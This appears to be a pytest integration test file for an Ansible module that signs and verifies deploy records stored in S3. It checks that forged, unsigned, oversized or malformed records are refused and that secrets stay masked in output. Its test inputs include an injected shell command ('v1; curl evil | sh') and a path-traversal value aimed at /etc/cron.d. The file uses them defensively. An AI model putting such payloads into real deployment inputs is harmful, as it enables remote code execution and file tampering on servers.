"""tokotani.dr.deploy_record against a real S3 API (moto server over HTTP on loopback), through ansible.

The record of the live version is written and read back by the module as the deploy role and the rebuild
playbook run it; the hostile records are written straight into the bucket with boto3, as an intruder with
write access to it would. Every refusal asserts the operator's message, and that it reads as a message,
not as an exception.
"""

from __future__ import annotations

import json
import sys

import pytest
from backup_support import ROOT, run_module
from s3_support import serve_moto, verbose_outputs

sys.path.insert(0, str(ROOT / ".collections"))

from ansible_collections.tokotani.dr.plugins.module_utils import backup_keys

KEY = "integration-deploy-key-" + "d" * 20  # a test key; real ones come from the vault
OLD_KEY = "the-previous-deploy-key-" + "p" * 20
STRANGER = "somebody-elses-backup-key-" + "x" * 20
KEY_ID = backup_keys.BackupKey(KEY).id
STRANGER_ID = backup_keys.BackupKey(STRANGER).id
COMMIT = "3f9a0c2d81b47e65a1c0d2e3f4a5b6c7d8e9f001"
DEPLOYED = 1767578400  # 2026-01-05T02:00:00Z
DEPLOYMENT = {
    "version": "v1.4.2",
    "commit": COMMIT,
    "release": "20260105T020000Z-3f9a0c2",
    "deployed_at": DEPLOYED,
    "host": "web1",
}
CURRENT = "prod/deploy/current.json"
CHOOSE = "; give -e version=<tag> to choose the version yourself"
# ansible-core 2.19 shows the traceback of the exception being handled when fail_json is called inside an
# except block: with tracebacks on, a refusal must carry none of the engine's frames.
TRACEBACKS = {"ANSIBLE_DISPLAY_TRACEBACK": "error"}


@pytest.fixture(scope="module")
def moto(tmp_path_factory):
    yield from serve_moto(tmp_path_factory.mktemp("moto_deploy"))


def deploy_record(args: dict, check: bool = False, env: dict | None = None) -> dict:
    result = run_module("deploy_record", args, check=check, env=env)
    assert KEY not in json.dumps(result) and OLD_KEY not in json.dumps(result), result
    return result


def put_args(moto, bucket: str, **extra) -> dict:
    return moto.args(bucket, prefix="/prod/", mode="put", backup_key=KEY, **{**DEPLOYMENT, **extra})


def record(**changes) -> dict:
    """A record as the module writes it (unsigned), with changes."""
    return {"record_version": 1, **DEPLOYMENT, **changes}


def sign(doc: dict, key: str = KEY) -> dict:
    return backup_keys.keyring({"backup_key": key}).sign(doc)


def test_put_then_get_round_trip_with_history_and_an_idempotent_second_put(moto):
    bucket = moto.bucket()
    s3 = moto.client()

    put = deploy_record(put_args(moto, bucket))
    assert put["changed"] and not put.get("failed"), put
    history = "prod/deploy/history/20260105T020000Z-3f9a0c2d81b4.json"
    assert put["object"] == f"s3://{bucket}/{CURRENT}"
    assert put["history_object"] == f"s3://{bucket}/{history}"
    assert sorted(moto.keys(bucket)) == [CURRENT, history]
    body = s3.get_object(Bucket=bucket, Key=CURRENT)["Body"].read()
    assert body == s3.get_object(Bucket=bucket, Key=history)["Body"].read()
    stored = json.loads(body)
    assert stored["signature"] == {"algorithm": "HMAC-SHA256", "key_id": KEY_ID, "value": stored["signature"]["value"]}
    assert s3.head_object(Bucket=bucket, Key=CURRENT)["ContentType"] == "application/json"

    got = deploy_record(moto.args(bucket, prefix="prod", mode="get", backup_key=KEY))
    assert got["found"] and got["signed"] and not got["changed"] and not got.get("failed"), got
    assert got["record"] == {**DEPLOYMENT, "key_id": KEY_ID}
    assert got["msg"].startswith(f"the deploy record s3://{bucket}/{CURRENT} says version v1.4.2 (commit {COMMIT}")

    etags = moto.keys(bucket)
    again = deploy_record(put_args(moto, bucket, deployed_at=DEPLOYED + 300, host="web2"))
    assert not again["changed"] and "already says version v1.4.2" in again["msg"], again
    assert moto.keys(bucket) == etags

    # The next deployment, on a rebuilt server under another name: a second history copy, a new current.
    newer = deploy_record(
        put_args(moto, bucket, version="v1.5.0", commit="b" * 40, deployed_at=DEPLOYED + 86400, host="web-new")
    )
    assert newer["changed"], newer
    assert sorted(moto.keys(bucket)) == [
        CURRENT,
        history,
        "prod/deploy/history/20260106T020000Z-bbbbbbbbbbbb.json",
    ]
    got = deploy_record(
        moto.args(bucket, prefix="prod", mode="get", backup_key=OLD_KEY, backup_previous_keys=[KEY]),
    )
    assert got["record"]["version"] == "v1.5.0" and got["record"]["key_id"] == KEY_ID, got


def test_check_mode_put_reports_and_writes_nothing(moto):
    bucket = moto.bucket()
    would = deploy_record(put_args(moto, bucket), check=True)
    assert would["changed"] and would["msg"].startswith("would record version v1.4.2"), would
    assert would["record"]["key_id"] == KEY_ID
    assert moto.keys(bucket) == {}


def test_no_record_is_found_false_not_a_failure(moto):
    bucket = moto.bucket()
    got = deploy_record(moto.args(bucket, prefix="prod", mode="get", backup_key=KEY))
    assert not got.get("failed") and got["found"] is False and got["record"] is None, got
    assert got["msg"].startswith(f"there is no deploy record at s3://{bucket}/{CURRENT}")


@pytest.mark.parametrize(
    ("body", "kind", "start"),
    [
        (
            json.dumps(record()).encode(),
            "not_signed",
            "the deploy record {url} is not signed, and a backup key is configured: it may have been written by "
            "someone else",
        ),
        (
            json.dumps(sign(record(), STRANGER)).encode(),
            "unknown_key",
            f"the deploy record {{url}} is not signed by a known backup key (key id {STRANGER_ID}; the keys given: "
            f"backup_key {KEY_ID}): it may have been written by someone else",
        ),
        (
            json.dumps({**sign(record()), "version": "v0.0.1"}).encode(),
            "not_authentic",
            f"the signature of the deploy record {{url}} (key id {KEY_ID}) does not match its content",
        ),
        (
            json.dumps(sign(record(version="../../../etc/cron.d/x"))).encode(),
            "invalid",
            "the deploy record {url} is not a valid deploy record (the deploy record's version "
            "'../../../etc/cron.d/x' is not of the allowed form; version must be a git tag",
        ),
        (
            b"{" + b" " * (64 * 1024) + b"}",
            "too_large",
            "the deploy record {url} is larger than 65536 bytes",
        ),
        (b"v1.4.2\n", "invalid", "the deploy record {url} is not JSON (Expecting value"),
        (b'["v1.4.2"]', "invalid", "the deploy record {url} is not a valid deploy record (the deploy record is not"),
    ],
    ids=["unsigned", "unknown-key", "bad-signature", "traversal-version", "oversized", "not-json", "json-array"],
)
def test_a_crafted_record_is_refused_with_a_message_the_operator_can_act_on(moto, body, kind, start):
    bucket = moto.bucket()
    moto.client().put_object(Bucket=bucket, Key=CURRENT, Body=body)
    url = f"s3://{bucket}/{CURRENT}"
    got = deploy_record(moto.args(bucket, prefix="prod", mode="get", backup_key=KEY), env=TRACEBACKS)
    assert got.get("failed") and got["error"] == kind, got
    assert got["msg"].startswith(start.format(url=url)), got["msg"]
    assert got["msg"].endswith(CHOOSE), got["msg"]
    assert got["object"] == url and "record" not in got
    assert "tokotani/dr/plugins/module_utils/" not in got.get("exception", ""), got["exception"]


def test_an_unsigned_record_is_taken_with_allow_unsigned_and_a_bad_signature_never(moto):
    bucket = moto.bucket()
    s3 = moto.client()
    s3.put_object(Bucket=bucket, Key=CURRENT, Body=json.dumps(record()).encode())
    got = deploy_record(moto.args(bucket, prefix="prod", mode="get", backup_key=KEY, allow_unsigned=True))
    assert got["found"] and not got["signed"] and got["record"]["key_id"] is None, got
    assert "taken because allow_unsigned is true" in got["warnings"][0]
    s3.put_object(Bucket=bucket, Key=CURRENT, Body=json.dumps({**sign(record()), "host": "evil"}).encode())
    got = deploy_record(moto.args(bucket, prefix="prod", mode="get", backup_key=KEY, allow_unsigned=True))
    assert got.get("failed") and got["error"] == "not_authentic", got


def test_a_deploy_replaces_a_forged_record_and_says_why(moto):
    bucket = moto.bucket()
    moto.client().put_object(Bucket=bucket, Key=CURRENT, Body=json.dumps(sign(record(), STRANGER)).encode())
    put = deploy_record(put_args(moto, bucket))
    assert put["changed"] and not put.get("failed"), put
    assert any("is not signed by a known backup key" in w for w in put["warnings"]), put["warnings"]
    got = deploy_record(moto.args(bucket, prefix="prod", mode="get", backup_key=KEY))
    assert got["signed"] and got["record"]["key_id"] == KEY_ID, got


def test_bad_inputs_of_a_put_write_nothing(moto):
    bucket = moto.bucket()
    refused = deploy_record(put_args(moto, bucket, version="v1; curl evil | sh"), env=TRACEBACKS)
    assert refused.get("failed") and refused["error"] == "invalid", refused
    assert refused["msg"].startswith("refusing to record the deployment, since a rebuild would refuse the record")
    assert "tokotani/dr/plugins/module_utils/" not in refused.get("exception", ""), refused["exception"]
    missing = deploy_record({k: v for k, v in put_args(moto, bucket).items() if k != "commit"})
    assert missing.get("failed") and "commit" in missing["msg"], missing
    assert moto.keys(bucket) == {}


def test_secrets_never_in_output_even_with_vvv(moto):
    forged = moto.bucket()
    moto.client().put_object(Bucket=forged, Key=CURRENT, Body=json.dumps(sign(record(), STRANGER)).encode())
    runs = [
        # secrets as options: a put that writes
        (put_args(moto, moto.bucket(), backup_previous_keys=[OLD_KEY]), {}),
        # secrets from the environment (the key's and amazon.aws's fallbacks): a get that is refused
        (
            {"bucket": forged, "prefix": "prod", "endpoint_url": moto.url, "region": "us-east-1", "mode": "get"},
            {
                "AWS_ACCESS_KEY_ID": moto.access_key,
                "AWS_SECRET_ACCESS_KEY": moto.secret_key,
                backup_keys.ENV_KEY: KEY,
                backup_keys.ENV_PREVIOUS_KEYS: OLD_KEY,
            },
        ),
    ]
    outputs = verbose_outputs("deploy_record", runs)
    assert any("recorded version v1.4.2" in output for output in outputs), outputs
    assert any("is not signed by a known backup key" in output for output in outputs), outputs
    for output in outputs:
        assert "secret_key" in output and "backup_key" in output  # the options are shown, their values masked
        for secret in (moto.secret_key, KEY, OLD_KEY):
            assert secret not in output
